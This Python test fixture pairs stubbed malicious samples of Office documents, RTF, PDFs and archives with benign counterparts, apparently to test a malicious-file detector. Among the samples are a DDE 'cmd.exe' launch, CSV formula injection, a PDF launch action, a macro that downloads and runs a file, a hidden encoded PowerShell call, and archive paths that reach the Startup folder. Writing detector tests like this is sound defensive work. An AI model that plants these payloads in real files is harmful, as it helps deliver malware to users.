"""One made-up file for each rule about documents, PDF and archives."""

from __future__ import annotations

import base64
import struct

OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
RTF = b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105"


def relations(kind: str, target: str) -> bytes:
    relation = f'<Relationship Type="x/{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{relation}</Relationships>".encode()


def pdf(body: str) -> bytes:
    return b"%PDF-1.7\n1 0 obj << " + body.encode("latin-1") + b" >> endobj\n"


def in_hex(text: str) -> bytes:
    return text.encode().hex().encode()


def disk_image(rest: bytes) -> bytes:
    return bytes(0x8001) + b"CD001" + bytes(100) + rest


ZIP_OF_TWO = b"PK\x03\x04" + bytes(26) + b"offer.pdf /offer.pdf .cmd" + b"echo"
NAME_OF_AUTO_OPEN = b"\x18\x00\x1b\x00\x20\x00\x00\x01\x07\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01"
HIDDEN_SHEET = b"\x85\x00\x0e\x00\x10\x20\x00\x00\x02\x01\x06\x00Macro1"
NOTEBOOK = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
FILE_IN_NOTEBOOK = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + bytes(20)

SAMPLES: dict[str, bytes] = {
    "documents.rtf_equation_editor_object": b"{\\rtf1{\\object{\\*\\objclass Equation.3}{\\*\\objdata 01}}}",
    "documents.rtf_object_that_updates_itself": b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 01}}}",
    "documents.rtf_embedded_package": b"{\\rtf1{\\object{\\*\\objclass Package}}}",
    "documents.ooxml_remote_template": relations("attachedTemplate", "https://files.example/t.dotm"),
    "documents.ooxml_remote_object": relations("oleObject", "https://files.example/a.html"),
    "documents.ooxml_link_starts_program": relations("hyperlink", "file:///C:/Windows/cmd.exe "),
    "documents.office_dde_command": b'<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>',
    "documents.csv_formula_starts_program": b"a,b\r\n=cmd|'/c calc'!A1\r\n",
    "documents.pdf_starts_program": pdf("/S /Launch /Win << /F (cmd.exe) >>"),
    "documents.pdf_script_runs_when_opened": pdf("/OpenAction << /S /JavaScript /JS (this.exportDataObject) >>"),
    "documents.onenote_embedded_program": NOTEBOOK + FILE_IN_NOTEBOOK + b"<script>",
    "office.rtf_header_is_malformed": b"{\\rtvpn{\\object{\\*\\objdata 0105}}}",
    "office.rtf_object_data_is_broken_up": RTF + b"\\bin000 0200}}}",
    "office.rtf_object_loads_from_the_net": RTF + b"E0C9EA79F9BACE118C8200AA004BA90B" + b"68007400740070003a00}}}",
    "office.rtf_object_runs_script": RTF + b"C6AFABEC197FD211978E0000F8757E2A" + b"2e00730063007400}}}",
    "office.rtf_list_view_control": RTF + in_hex("MSComctlLib.ListViewCtrl") + b"}}}",
    "office.equation_object_holds_command": OLE + "Equation Native".encode("utf-16-le") + b"cmd.exe /c start",
    "office.ooxml_remote_frame": relations("frame", "https://files.example/frame.html"),
    "office.ooxml_reaches_for_numeric_server": relations("image", "file:///\\\\203.0.113.9\\a\\b.png"),
    "office.ooxml_page_with_x_usc": relations("image", "mhtml:https://a.example/p!x-usc:https://a.example/p"),
    "office.macro_sheet_starts_program": b'<xm:macrosheet><f>CALL("urlmon","URLDownloadToFileA")</f></xm:macrosheet>',
    "office.xls_hides_macro_sheet": OLE + HIDDEN_SHEET + NAME_OF_AUTO_OPEN,
    "office.sylk_table_starts_program": b'ID;P\nC;X1;Y1;EEXEC("CMD.EXE")\nE\n',
    "office.web_query_loads_table": b"WEB\r\n1\r\nhttps://files.example/table\r\n",
    "office.macro_source_loads_and_starts": (
        b'Attribute VB_Name = "a"\nSub AutoOpen()\nURLDownloadToFile 0, u, f\nShell f\n'
    ),
    "office.macro_source_runs_machine_code": (
        b"Private Declare PtrSafe Function VirtualAlloc\nDeclare Sub RtlMoveMemory\nDeclare Function CreateThread"
    ),
    "office.active_mime_outside_of_office": b"<w:binData>"
    + base64.b64encode(b"ActiveMime\0\0\1\xf0")
    + b"</w:binData>",
    "pdf.pdf_writes_names_in_disguise": pdf("/S /J#61vaScript /JS (app.alert(1))"),
    "pdf.pdf_carries_program_by_name": pdf("/Type /Filespec /F (invoice.pdf.vbs) /EF << /F 3 0 R >> /EmbeddedFile"),
    "pdf.pdf_reaches_for_file_server": pdf("/S /GoToE /F (\\\\\\\\files.example\\\\a) /D [0]"),
    "pdf.pdf_script_is_obfuscated": pdf("/S /JavaScript /JS (eval(unescape('%61')))"),
    "pdf.pdf_attacks_reader": pdf("/JS (util.printf('%45000f', 1))"),
    "pdf.pdf_link_leads_to_script": pdf("/S /URI /URI (https://files.example/scan.vbs)"),
    "pdf.pdf_with_program_behind": pdf("") + b"!This program cannot be run in DOS mode.\r\n" + b".text\0\0\0",
    "archives.zip_folder_named_like_document": ZIP_OF_TWO,
    "archives.rar_stream_leaves_folder": b"Rar!\x1a\x07\x01\x00" + bytes(20) + b"STM\x07:..\\..\\..\\AppData\\a.lnk",
    "archives.archive_writes_to_startup": b"Rar!\x1a\x07\x01\x00 Start Menu\\Programs\\Startup\\a.bat",
    "archives.ace_with_absolute_path": bytes(7) + b"**ACE**" + bytes(20) + b"C:\\C:\\Users\\a.exe",
    "archives.self_extractor_runs_silently": b"MZ" + bytes(60) + b"\nSetup=run.bat\nTempMode\nSilent=1\n",
    "archives.disk_image_with_link_file": disk_image(b"INVOICE.LNK;1"),
    "archives.disk_image_starts_by_itself": disk_image(b"AUTORUN.INF;1 [autorun]\nopen=setup.exe\n"),
    "archives.cabinet_leaves_folder": b"MSCF\0\0\0\0" + bytes(40) + b"../champion.inf\0",
    "archives.installer_runs_script": OLE + b"CustomAction powershell.exe -w hidden -enc AAAA",
}

GOOD: dict[str, bytes] = {
    "rich text": b"{\\rtf1\\ansi{\\fonttbl\\f0 Arial;}Hello, see \\objclass and Equation.3 in the manual.}",
    "rich text with a picture of Excel": RTF + in_hex("Excel.Sheet.12") + b"}}}",
    "an old document with an equation": OLE + "Equation Native".encode("utf-16-le") + bytes(28) + b"\x03\x01x=y",
    "an old table": OLE + struct.pack("<HHI", 0x85, 14, 0x2010) + b"\0\0\x06\0Sheet1",
    "an old table with a macro sheet in sight": OLE
    + HIDDEN_SHEET.replace(b"\x02\x01", b"\x00\x01")
    + NAME_OF_AUTO_OPEN,
    "a template of the company": relations("attachedTemplate", "file:///C:/Templates/letter.dotx"),
    "a template in SharePoint": relations("attachedTemplate", "https://example.sharepoint.com/t.dotm"),
    "a link to the web": relations("hyperlink", "https://www.example.com/cmd.exe"),
    "a picture of an internal server": relations("image", "file:///\\\\192.168.1.5\\share\\logo.png"),
    "a picture of a named server": relations("image", "file:///\\\\files\\share\\logo.png"),
    "a web query of SharePoint": b"WEB\n1\nhttps://example.sharepoint.com/_vti_bin/owssvr.dll\n",
    "a table in SYLK form": b"ID;PWXL;N;E\nC;Y1;X1;K5\nC;Y2;X1;K10;ER1C1*2\nE\n",
    "a macro sheet that adds": b"<xm:macrosheet><f>SUM(A1:A9)</f><f>RETURN()</f></xm:macrosheet>",
    "macro source of an office": b'Attribute VB_Name = "a"\nSub Workbook_Open()\nSheets(1).Activate\nEnd Sub\n',
    "macro source with a timer": b'Private Declare PtrSafe Function GetTickCount Lib "kernel32" () As Long\n',
    "a table": b"command,|,pipe\r\n=SUM(A1:A2),-3,+4\r\n",
    "a PDF with links": pdf("/S /URI /URI (https://www.example.com/setup.exe)"),
    "a PDF form": pdf("/OpenAction << /S /JavaScript /JS (this.print()) >>"),
    "a PDF form that adds": pdf("/AA << /C << /S /JavaScript /JS (event.value = this.getField('a').value) >> >>"),
    "a PDF invoice with its data": pdf("/Type /Filespec /F (factur-x.xml) /EF << /F 3 0 R >> /EmbeddedFile"),
    "a PDF with a name of two words": pdf("/BaseFont /Times#20New#20Roman /Name /Java#20Bean"),
    "a PDF that leads to its neighbour": pdf("/S /GoToR /F (chapter2.pdf) /D [0 /Fit]"),
    "a PDF about programs": pdf("/Contents (This program cannot be run in DOS mode)"),
    "a zip": b"PK\x03\x04" + bytes(26) + b"offer/offer.pdf" + b"%PDF-1.7",
    "a zip with a script among documents": b"PK\x03\x04" + bytes(26) + b"tools/build.cmd" + b"echo",
    "a RAR archive with a comment": b"Rar!\x1a\x07\x01\x00" + bytes(20) + b"CMT see ../readme",
    "an installer of a maker": OLE + b"CustomAction WixQuietExec powershell.exe -File setup.ps1",
    "a disk image": disk_image(b"README.TXT;1"),
    "a disk image with a start menu": disk_image(b"AUTORUN.INF;1 [autorun]\nicon=setup.ico\n"),
    "a cabinet": b"MSCF\0\0\0\0" + bytes(40) + b"drivers\\printer.inf\0",
    "a self-extracting archive that asks": b"MZ" + bytes(60) + b"\nSetup=setup.exe\nTitle=Example\n",
}
